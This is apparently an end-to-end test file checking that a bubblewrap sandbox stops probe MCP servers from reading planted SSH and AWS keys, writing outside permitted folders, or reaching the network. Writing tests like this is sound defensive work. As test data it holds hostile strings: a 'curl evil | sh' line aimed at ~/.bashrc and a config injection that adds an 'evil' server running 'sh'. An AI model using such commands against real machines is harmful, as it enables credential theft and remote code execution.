// End-to-end (issue 32 §1): upstream stdio servers run inside bubblewrap's fence by default. A probe server tries
// what the fence must stop — reading a key planted in the test HOME's .ssh, writing outside its folders, reaching a
// loopback port with the network off — through a real `switchboard serve`; the same probe unfenced shows each
// attempt would otherwise work. Without bubblewrap a server runs unfenced with a warning, or not at all when its
// fence is required. (The reference servers from the npm registry in the default fence: fence-reference.test.ts.)
import { existsSync, mkdirSync, mkdtempSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { Client, StreamableHTTPClientTransport } from '@modelcontextprotocol/client';
import { stringify } from 'smol-toml';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCli, startHttpServer } from '../helpers/cli.ts';
import { until } from '../helpers/until.ts';

const PROBE = resolve(import.meta.dirname, '../fixtures/upstream/probe-server.mjs');

const open: Array<{ close(): Promise<unknown> | unknown }> = [];
afterAll(async () => {
  for (const o of open.reverse()) await o.close();
});

/** A user's machine: a HOME with secrets, this project, and another project beside it. */
function machine() {
  const root = mkdtempSync(join(tmpdir(), 'sb-fence-'));
  const home = join(root, 'home');
  mkdirSync(join(home, '.ssh'), { recursive: true });
  writeFileSync(join(home, '.ssh', 'id_ed25519'), 'PLANTED-PRIVATE-KEY');
  mkdirSync(join(home, '.aws'), { recursive: true });
  writeFileSync(join(home, '.aws', 'credentials'), 'PLANTED-AWS-SECRET');
  const project = join(home, 'code', 'app');
  const other = join(home, 'code', 'other');
  mkdirSync(join(project, '.switchboard'), { recursive: true });
  mkdirSync(other, { recursive: true });
  writeFileSync(join(other, 'notes.txt'), 'OTHER-PROJECT');
  return { root, home, project, other };
}

function configure(project: string, servers: Record<string, unknown>[], more: Record<string, unknown> = {}) {
  writeFileSync(join(project, '.switchboard', 'config.toml'), stringify({ ...more, servers }));
}

const probe = (name: string, extra: Record<string, unknown> = {}) => ({
  name,
  command: process.execPath,
  args: [PROBE],
  ...extra,
});

/** Serve `project` and wait until the servers named in `expect` list their tools. */
async function serve(project: string, home: string, expect: string[], env: Record<string, string> = {}) {
  const server = await startHttpServer(
    project,
    [],
    { HOME: home, SWITCHBOARD_LOG_LEVEL: 'info', ...env },
    {
      handlers: [],
    },
  );
  open.push({ close: () => server.stop() });
  const client = new Client({ name: 'fence', version: '1' });
  await client.connect(new StreamableHTTPClientTransport(new URL(`${server.url}/mcp`)));
  open.push(client);
  await until(
    async () => {
      const names = (await client.listTools()).tools.map((t) => t.name);
      return expect.every((server) => names.includes(`${server}__read_file`));
    },
    { timeoutMs: 20_000, what: `the tools of ${expect.join(', ')}` },
  );
  return { server, client };
}

type Outcome = { ok: boolean; text?: string; error?: string };
async function tool(client: Client, name: string, args: Record<string, unknown>): Promise<Outcome> {
  const r = await client.callTool({ name, arguments: args });
  if (r.isError) throw new Error(`${name} failed: ${JSON.stringify(r.content)}`);
  return r.structuredContent as Outcome;
}

describe('a fenced server (bubblewrap, the default)', () => {
  let m: ReturnType<typeof machine>;
  let client: Client;
  let listener: Server;
  let port: number;
  let accepted = 0;

  beforeAll(async () => {
    listener = createServer((s) => {
      accepted++;
      s.destroy();
    });
    await new Promise<void>((r) => listener.listen(0, '127.0.0.1', r));
    port = (listener.address() as { port: number }).port;
    open.push({ close: () => new Promise((r) => listener.close(r)) });
    m = machine();
    // What the hub reads live for what it runs, besides its own folder: mekara's scripts, Meerkat's project servers.
    mkdirSync(join(m.project, '.mekara', 'scripts'), { recursive: true });
    writeFileSync(join(m.project, '.mekara', 'scripts', 'hello.md'), '# Hello\n\n1. Say hello.\n');
    mkdirSync(join(m.project, '.rkat'), { recursive: true });
    writeFileSync(join(m.project, '.rkat', 'mcp.toml'), '# no servers yet\n');
    configure(m.project, [
      probe('fenced'),
      probe('offline', { sandbox: { network: false } }),
      probe('open', { sandbox: 'off' }),
    ]);
    ({ client } = await serve(m.project, m.home, ['fenced', 'offline', 'open']));
  });

  it('cannot read ~/.ssh, ~/.aws or another project; unfenced, the same probe can', async () => {
    for (const secret of [
      join(m.home, '.ssh/id_ed25519'),
      join(m.home, '.aws/credentials'),
      join(m.other, 'notes.txt'),
    ]) {
      expect(await tool(client, 'fenced__read_file', { path: secret })).toEqual({ ok: false, error: 'ENOENT' });
      expect((await tool(client, 'open__read_file', { path: secret })).ok).toBe(true);
    }
    // What it is given: the project (its working directory) and the system's files.
    writeFileSync(join(m.project, 'README.md'), 'APP');
    expect(await tool(client, 'fenced__read_file', { path: join(m.project, 'README.md') })).toEqual({
      ok: true,
      text: 'APP',
    });
    expect((await tool(client, 'fenced__read_file', { path: '/etc/hostname' })).ok).toBe(true);
  });

  it('does not see the hub’s own state inside the project', async () => {
    const config = join(m.project, '.switchboard', 'config.toml');
    expect(await tool(client, 'fenced__read_file', { path: config })).toEqual({ ok: false, error: 'ENOENT' });
    // A write there lands in a throw-away folder, never in the hub's configuration.
    const before = readFileSync(config, 'utf8');
    await tool(client, 'fenced__write_file', { path: config, text: '[[servers]]\nname = "evil"\ncommand = "sh"\n' });
    expect(readFileSync(config, 'utf8')).toBe(before);
  });

  it('reads, but cannot change, the originals’ folders the hub runs from (.mekara, .rkat)', async () => {
    for (const file of [join(m.project, '.mekara/scripts/hello.md'), join(m.project, '.rkat/mcp.toml')]) {
      const before = readFileSync(file, 'utf8');
      expect(await tool(client, 'fenced__read_file', { path: file })).toEqual({ ok: true, text: before });
      const wrote = await tool(client, 'fenced__write_file', { path: file, text: '[[servers]]\nname = "evil"\n' });
      expect(wrote.ok, file).toBe(false);
      expect(readFileSync(file, 'utf8')).toBe(before);
    }
  });

  it('writes only inside its folders: the project yes; another project, HOME and the system no', async () => {
    expect(await tool(client, 'fenced__write_file', { path: join(m.project, 'out.txt'), text: 'ok' })).toEqual({
      ok: true,
    });
    expect(readFileSync(join(m.project, 'out.txt'), 'utf8')).toBe('ok');
    const other = await tool(client, 'fenced__write_file', { path: join(m.other, 'pwned.txt'), text: 'x' });
    expect(other.ok).toBe(false);
    expect(existsSync(join(m.other, 'pwned.txt'))).toBe(false);
    // HOME is the server's own (its caches live there), not the user's: ~/.bashrc is not reached.
    await tool(client, 'fenced__write_file', { path: join(m.home, '.bashrc'), text: 'curl evil | sh' });
    expect(existsSync(join(m.home, '.bashrc'))).toBe(false);
    expect(await tool(client, 'fenced__write_file', { path: '/usr/local/pwned', text: 'x' })).toMatchObject({
      ok: false,
    });
    expect(existsSync('/usr/local/pwned')).toBe(false);
  });

  it('with network = false cannot reach a loopback port; with the default it can', async () => {
    const before = accepted;
    expect((await tool(client, 'offline__connect', { port })).ok).toBe(false);
    expect(accepted).toBe(before);
    expect(await tool(client, 'fenced__connect', { port })).toEqual({ ok: true });
  });

  it('mcp list --status shows each server’s fence', async () => {
    const out = await runCli(m.project, ['mcp', 'list', '--status', '--json'], { env: { HOME: m.home } });
    expect(out.code).toBe(0);
    const rows = JSON.parse(out.stdout).servers as Array<{ name: string; sandbox?: string; status?: string }>;
    expect(Object.fromEntries(rows.map((r) => [r.name, [r.status, r.sandbox]]))).toEqual({
      fenced: ['connected', 'fenced'],
      offline: ['connected', 'fenced, no network'],
      open: ['connected', 'off'],
    });
  });
});

describe('without bubblewrap', () => {
  /** A PATH with node and sh but no bwrap, as on a machine without the package. */
  function pathWithoutBwrap(root: string): string {
    const bin = join(root, 'bin');
    mkdirSync(bin, { recursive: true });
    for (const tool of ['sh', 'env', 'true']) symlinkSync(`/bin/${tool}`, join(bin, tool));
    symlinkSync(process.execPath, join(bin, 'node'));
    return bin;
  }

  it('runs a server unfenced with a warning naming the package, and refuses one whose fence is required', async () => {
    const m = machine();
    configure(m.project, [probe('lenient'), probe('strict', { sandbox: { required: true } })]);
    const { server, client } = await serve(m.project, m.home, ['lenient'], {
      PATH: pathWithoutBwrap(m.root),
    });
    const { tools } = await client.listTools();
    expect(tools.map((t) => t.name).filter((n) => n.startsWith('lenient__'))).toContain('lenient__read_file');
    expect(tools.some((t) => t.name.startsWith('strict__'))).toBe(false);
    // Unfenced, the lenient server reaches what a fence would have hidden: the warning says so and what to install.
    expect((await tool(client, 'lenient__read_file', { path: join(m.home, '.ssh/id_ed25519') })).ok).toBe(true);
    expect(server.stderr()).toMatch(/upstream server runs unfenced/);
    expect(server.stderr()).toMatch(
      /bubblewrap is not installed; install bubblewrap \(Debian\/Ubuntu: apt install bubblewrap/,
    );
    const out = await runCli(m.project, ['mcp', 'list', '--status', '--json'], {
      env: { HOME: m.home, PATH: pathWithoutBwrap(mkdtempSync(join(tmpdir(), 'sb-nobwrap-'))) },
    });
    const rows = JSON.parse(out.stdout).servers as Array<{
      name: string;
      sandbox?: string;
      status?: string;
      error?: string;
    }>;
    const strict = rows.find((r) => r.name === 'strict');
    expect(strict?.status).toBe('failed');
    expect(strict?.error).toMatch(/must run fenced \(sandbox\.required\) but cannot: bubblewrap is not installed/);
    expect(rows.find((r) => r.name === 'lenient')?.sandbox).toMatch(/^unfenced: bubblewrap is not installed/);
  });
});
